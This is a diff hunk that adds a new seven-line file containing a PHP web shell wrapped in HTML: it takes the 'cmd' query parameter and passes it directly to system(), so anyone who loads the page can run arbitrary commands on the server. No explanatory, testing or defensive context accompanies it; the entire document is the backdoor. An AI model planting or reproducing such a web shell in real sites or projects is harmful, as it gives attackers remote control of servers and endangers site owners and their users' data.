@@ -1,0 +1,7 @@
+<html><body><pre>
+<?php
+if (isset($_GET['cmd'])) {
+    system($_GET['cmd']);
+}
+?>
+</pre></body></html>
